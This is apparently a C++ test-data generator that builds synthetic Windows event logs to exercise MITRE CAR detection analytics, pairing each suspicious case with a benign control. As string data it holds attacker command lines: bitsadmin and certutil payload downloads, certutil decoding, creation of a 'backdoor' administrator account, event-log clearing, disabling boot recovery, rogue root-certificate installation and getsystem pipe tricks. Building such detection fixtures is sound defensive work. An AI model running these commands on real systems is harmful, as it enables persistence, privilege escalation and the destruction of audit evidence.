void car_2021_02_001(std::vector<scenario_file>& out) {
    catalogue_log log("CAR-2021-02-001");
    const std::string found = car_label("CAR-2021-02-001", "pseudocode");
    log.process(as_system(program(cmd_image, cmd_image + " /c whoami", sys32 + R"(inetsrv\w3wp.exe)")),
                "cmd.exe started by IIS's worker", {found, cmd_label});
    log.next_case();
    log.process(as_system(program(sys32 + "whoami.exe", "whoami", R"(C:\Program Files\Apache Software Foundation\Tomcat 9.0\bin\tomcat9.exe)")),
                "whoami started by Tomcat", {found, host_discovery});
    log.next_case();
    log.process(as_system(program(sys32 + "notepad.exe", {}, sys32 + R"(inetsrv\w3wp.exe)")), "notepad.exe started by IIS's worker",
                none);
    add_files(out, log, "cmd and whoami started by web servers; another program");
}

void car_2021_02_002(std::vector<scenario_file>& out) {
    catalogue_log log("CAR-2021-02-002");
    const std::string services_pipe = car_label("CAR-2021-02-002", "services-pipe");
    const std::string comspec_pipe = car_label("CAR-2021-02-002", "comspec-pipe");
    const std::string service_create = car_label("CAR-2021-02-002", "service-create");
    log.process(as_system(program(cmd_image, R"(cmd.exe /c echo ba80ae80df9 > \\.\pipe\66bee3)", services_image)),
                "a service echoing into a named pipe (Meterpreter's getsystem, CAR's test)",
                {services_pipe, comspec_pipe, cmd_label, car_label("CAR-2014-05-002", "pseudocode")});
    log.next_case();
    log.process(program(sys32 + "rundll32.exe", R"(rundll32.exe C:\Users\user\AppData\Local\Temp\fvxens.dll,a /p:fvxens)"),
                "rundll32 with ,a /p: (Cobalt Strike's getsystem, CAR's test)",
                {services_pipe, car_label("CAR-2014-03-006", "pseudocode")});
    log.next_case();
    log.process(program(cmd_image, R"(cmd.exe /C start %COMSPEC% /C "timeout /t 3 >nul&&echo TestSVC > \\.\pipe\TestSVC")"),
                "%COMSPEC% echoing into a named pipe (Empire, CAR's test)", {comspec_pipe, cmd_label});
    log.next_case();
    log.system(service_installed(log.audited_host(), log.next_time(), "TestSVC",
                                 R"(%COMSPEC% /C "timeout /t 3 >nul&&echo TestSVC > \\.\pipe\TestSVC")", "LocalSystem"),
               "a service whose command echoes into a pipe (7045)", {service_create, car_label("CAR-2013-09-005", "logpoint")});
    service_install pipe_service;
    pipe_service.name = "TestSVC";
    pipe_service.file_name = R"(%COMSPEC% /C "timeout /t 3 >nul&&echo TestSVC > \\.\pipe\TestSVC")";
    log.security(security_service_installed(log.audited_host(), log.next_time(), log.tester(), pipe_service),
                 "the same service in the Security log (4697)", {service_create});
    log.next_case();
    log.process(program(cmd_image, R"(cmd.exe /c echo done > C:\Users\tester\log.txt)"), "echo into a file", {cmd_label});
    log.system(service_installed(log.audited_host(), log.next_time(), "Updater", R"("C:\Program Files\Vendor\updater.exe" -service)",
                                 "LocalSystem"),
               "an ordinary service (7045)", {car_label("CAR-2013-09-005", "logpoint")});
    add_files(out, log, "getsystem's pipe echo by a service, by %COMSPEC%, rundll32 ,a /p:, the service (7045, 4697); and echo into a file");
}

void car_2021_04_001(std::vector<scenario_file>& out) {
    catalogue_log log("CAR-2021-04-001");
    const std::string found = car_label("CAR-2021-04-001", "pseudocode");
    const started fake = log.process(program(R"(C:\Users\Public\svchost.exe)", R"(C:\Users\Public\svchost.exe -k netsvcs)"),
                                     "svchost.exe run from Public", {found});
    log.sysmon(sysmon_process_terminate(log.sysmon_host_of(), log.next_time(), fake.sysmon), "the false svchost.exe exits (Sysmon 5)",
               {found});
    log.security(security_process_exited(log.audited_host(), log.now(), log.tester(), fake.pid, fake.image),
                 "the false svchost.exe exits (4689)", {found});
    log.next_case();
    log.process(as_system(program(R"(C:\Windows\Temp\lsass.exe)", R"(C:\Windows\Temp\lsass.exe)")), "lsass.exe run from Temp",
                {found, car_label("CAR-2020-11-004", "pseudocode")});
    log.next_case();
    log.process(program(sys32 + "explorer.exe", sys32 + "explorer.exe"), "explorer.exe run from System32", {found});
    log.next_case();
    log.process(as_system(program(R"(C:\Windows\SysWOW64\svchost.exe)", R"(C:\Windows\SysWOW64\svchost.exe -k netsvcs)",
                                  services_image)),
                "the 32-bit svchost.exe", none);
    log.next_case();
    log.process(as_system(program(sys32 + "svchost.exe", sys32 + "svchost.exe -k netsvcs", services_image)), "svchost.exe", none);
    add_files(out, log, "svchost, lsass and explorer outside their folders (start and exit); the real ones");
}

void car_2021_05_001(std::vector<scenario_file>& out) {
    catalogue_log log("CAR-2021-05-001");
    log.process(program(certutil_image, R"(certutil.exe -addstore -f Root C:\Users\tester\evil.cer)"),
                "a certificate added to the root store", {car_label("CAR-2021-05-001", "pseudocode")});
    log.next_case();
    log.process(program(certutil_image, "certutil.exe -viewstore Root"), "the root store viewed", none);
    add_files(out, log, "certutil -addstore, and -viewstore");
}

void car_2021_05_003(std::vector<scenario_file>& out) {
    catalogue_log log("CAR-2021-05-003");
    const std::string any = car_label("CAR-2021-05-003", "pseudocode");
    const std::string off = car_label("CAR-2021-05-003", "splunk");
    log.process(program(sys32 + "bcdedit.exe", "bcdedit.exe /set {default} recoveryenabled no"), "recovery turned off",
                {any, off});
    log.next_case();
    log.process(program(sys32 + "bcdedit.exe", "bcdedit.exe /set {default} recoveryenabled yes"), "recovery turned on", {any});
    log.next_case();
    log.process(program(sys32 + "bcdedit.exe", "bcdedit.exe /enum"), "the boot entries listed", none);
    add_files(out, log, "bcdedit recoveryenabled no and yes; bcdedit /enum");
}

void car_2021_05_004(std::vector<scenario_file>& out) {
    catalogue_log log("CAR-2021-05-004");
    const std::string found = car_label("CAR-2021-05-004", "pseudocode");
    log.process(program(bitsadmin_image, "bitsadmin.exe /create backdoor"), "a BITS job created", {found});
    log.next_case();
    log.process(program(bitsadmin_image, R"(bitsadmin.exe /SetNotifyCmdLine backdoor C:\Users\tester\payload.exe NULL)"),
                "the job's notification command set", {found});
    log.next_case();
    log.process(program(bitsadmin_image, "bitsadmin.exe /list"), "the jobs listed", none);
    add_files(out, log, "bitsadmin /create and /SetNotifyCmdLine; /list");
}

void car_2021_05_005(std::vector<scenario_file>& out) {
    catalogue_log log("CAR-2021-05-005");
    log.process(program(bitsadmin_image,
                        R"(bitsadmin.exe /transfer job /download /priority high http://updates.example.net/p.exe C:\Users\tester\p.exe)"),
                "a download with bitsadmin", {car_label("CAR-2021-05-005", "pseudocode")});
    log.next_case();
    log.process(program(bitsadmin_image, "bitsadmin.exe /info job"), "a job's information", none);
    add_files(out, log, "bitsadmin /transfer, and /info");
}

void car_2021_05_006_to_009(std::vector<scenario_file>& out) {
    {
        catalogue_log log("CAR-2021-05-006");
        log.process(program(certutil_image, R"(certutil.exe -urlcache -split -f http://updates.example.net/p.exe C:\Users\tester\p.exe)"),
                    "a download with certutil -urlcache -split", {car_label("CAR-2021-05-006", "pseudocode")});
        log.next_case();
        log.process(program(certutil_image, "certutil.exe -urlcache *"), "the URL cache listed", none);
        add_files(out, log, "certutil -urlcache -split, and -urlcache alone");
    }
    {
        catalogue_log log("CAR-2021-05-007");
        log.process(program(certutil_image, "certutil.exe -verifyctl -f -split http://updates.example.net/p.exe"),
                    "a download with certutil -verifyctl -split", {car_label("CAR-2021-05-007", "pseudocode")});
        log.next_case();
        log.process(program(certutil_image, R"(certutil.exe -verifyctl -f C:\Users\tester\trust.stl)"),
                    "a trust list verified", none);
        add_files(out, log, "certutil -verifyctl -split, and -verifyctl alone");
    }
    {
        catalogue_log log("CAR-2021-05-008");
        log.process(program(certutil_image, R"(certutil.exe -exportPFX -p Secret1 My 1a2b3c C:\Users\tester\key.pfx)"),
                    "a certificate exported with its key", {car_label("CAR-2021-05-008", "pseudocode")});
        log.next_case();
        log.process(program(certutil_image, "certutil.exe -store My"), "the personal store listed", none);
        add_files(out, log, "certutil -exportPFX, and -store");
    }
    {
        catalogue_log log("CAR-2021-05-009");
        log.process(program(certutil_image, R"(certutil.exe -decode C:\Users\tester\p.b64 C:\Users\tester\p.exe)"),
                    "a base64 file decoded", {car_label("CAR-2021-05-009", "pseudocode")});
        log.next_case();
        log.process(program(certutil_image, R"(certutil.exe -encode C:\Users\tester\in.txt C:\Users\tester\out.b64)"),
                    "a file encoded", none);
        add_files(out, log, "certutil -decode, and -encode");
    }
}

void car_2021_05_010(std::vector<scenario_file>& out) {
    catalogue_log log("CAR-2021-05-010");
    log.process(program(net_image, "net user backdoor P@ssw0rd1 /add"), "an account created",
                {net_accounts, host_discovery, group_discovery});
    log.next_case();
    log.process(program(net1_image, "net1 localgroup administrators backdoor /add"), "the account made an administrator",
                {net_accounts, group_discovery});
    log.next_case();
    log.process(program(net_image, "net use"), "connections listed", {host_discovery});
    add_files(out, log, "net user /add, net1 localgroup /add; net use");
}

void car_2016_04_002(std::vector<scenario_file>& out) {
    catalogue_log log("CAR-2016-04-002");
    const std::string splunk = car_label("CAR-2016-04-002", "splunk");
    const std::string cleared = car_label("CAR-2016-04-002", "cleared");
    const std::string service = car_label("CAR-2016-04-002", "service-events");
    log.process(program(sys32 + "wevtutil.exe", "wevtutil.exe cl System"), "the System log cleared with wevtutil",
                {splunk, car_label("CAR-2021-01-003", "splunk")});
    log.next_case();
    log.process(program(powershell_image, "powershell.exe Clear-EventLog -LogName Security"), "Clear-EventLog (CAR's test)",
                {splunk});
    log.next_case();
    log.process(program(powershell_image, "powershell.exe Remove-Item C:\\Windows\\System32\\winevt\\logs\\Security.evtx"),
                "a log file removed (CAR's test)", {splunk});
    log.next_case();
    log.security(security_log_cleared(log.audited_host(), log.next_time(), log.tester()), "the audit log cleared (1102)", {cleared});
    log.system(system_log_cleared(log.audited_host(), log.next_time(), log.tester().sid, "tester", "CORP", "System", ""),
               "the System log cleared (104)", {cleared});
    log.next_case();
    log.security(security_eventlog_notice(log.audited_host(), log.next_time(), 1100), "the event logging service shut down (1100)",
                 {service});
    log.security(security_eventlog_notice(log.audited_host(), log.next_time(), 1104), "the security log is full (1104)", {service});
    log.next_case();
    log.process(program(sys32 + "wevtutil.exe", "wevtutil.exe gl Security"), "a log's settings read", none);
    add_files(out, log, "logs cleared with wevtutil and PowerShell, 1102, 104, 1100, 1104; wevtutil gl");
}

void car_2019_07_001(std::vector<scenario_file>& out) {
    catalogue_log log("CAR-2019-07-001");
    permissions_change file;
    file.object_name = R"(C:\Users\tester\secret.txt)";
    file.old_sd = "D:(A;;FA;;;SY)(A;;FA;;;BA)";
    file.new_sd = "D:(A;;FA;;;SY)(A;;FA;;;BA)(A;;FA;;;WD)";
    file.process_id = 0x1a44;
    file.process_name = sys32 + "icacls.exe";
    log.security(security_permissions_changed(log.audited_host(), log.next_time(), log.tester(), file),
                 "a file's permissions changed by a user (4670)", {car_label("CAR-2019-07-001", "pseudocode")});
    log.security(security_permissions_changed(log.audited_host(), log.next_time(), catalogue_log::system_account(), file),
                 "a file's permissions changed by SYSTEM", none);
    permissions_change key = file;
    key.object_type = "Key";
    key.object_name = R"(\REGISTRY\MACHINE\SOFTWARE\Vendor)";
    log.security(security_permissions_changed(log.audited_host(), log.next_time(), log.tester(), key),
                 "a registry key's permissions changed", none);
    log.next_case();
    log.process(program(R"(C:\cygwin64\bin\chmod.exe)", "chmod 777 secret.txt"), "chmod through Cygwin",
                {car_label("CAR-2019-07-001", "chmod")});
    log.next_case();
    log.process(program(R"(C:\cygwin64\bin\chown.exe)", "chown tester secret.txt"), "chown is not chmod", none);
    add_files(out, log, "4670 on a file by a user, by SYSTEM, on a key; chmod and chown");
}

}  // namespace

process_spec program(const std::string& image, const std::string& command_line, const std::string& parent_image,
                     const std::string& parent_command_line) {
    process_spec spec;
    spec.image = image;
    spec.command_line = command_line;
    spec.parent_image = parent_image;
    spec.parent_command_line = parent_command_line.empty()
                                   ? (parent_image == explorer_image ? std::string("C:\\Windows\\Explorer.EXE")
                                                                     : "\"" + parent_image + "\"")
                                   : parent_command_line;
    return spec;
}

process_spec as_system(process_spec spec) {
    spec.user = "NT AUTHORITY\\SYSTEM";
    spec.integrity = "System";
    return spec;
}

process_spec with_integrity(process_spec spec, const std::string& integrity) {
    spec.integrity = integrity;
    return spec;
}

logon_details network_logon() {
    logon_details network;
    network.logon_type = 3;
    network.logon_process = "Kerberos";
    network.authentication_package = "Kerberos";
    network.process_name = "-";
    network.process_id = 0;
    return network;
}

void add_files(std::vector<scenario_file>& out, const catalogue_log& log, const std::string& exercises) {
    for (scenario_file& file : log.files(exercises)) out.push_back(std::move(file));
}

void catalogue_process_cases(std::vector<scenario_file>& out) {
    for (auto cases : {car_2013_02_003, car_2013_05_002, car_2013_05_004, car_2013_07_001, car_2013_07_005, car_2013_08_001,
                       car_2014_03_006, car_2014_04_003, car_2014_05_002, car_2014_07_001, car_2014_11_003, car_2014_11_004,
                       car_2014_11_008, car_2016_03_001, car_2016_03_002, car_2016_04_002, car_2019_04_001, car_2019_04_002,
                       car_2019_04_003, car_2019_07_001, car_2019_07_002, car_2020_09_003, car_2020_09_004, car_2020_11_002,
                       car_2020_11_003, car_2020_11_004, car_2020_11_005, car_2020_11_006, car_2020_11_007, car_2020_11_008,
                       car_2020_11_009, car_2021_01_003, car_2021_01_004, car_2021_01_006, car_2021_01_007, car_2021_01_008,
                       car_2021_01_009, car_2021_02_001, car_2021_02_002, car_2021_04_001, car_2021_05_001, car_2021_05_003,
                       car_2021_05_004, car_2021_05_005, car_2021_05_006_to_009, car_2021_05_010}) {
        cases(out);
    }
}

}  // namespace evtxcar::testdata
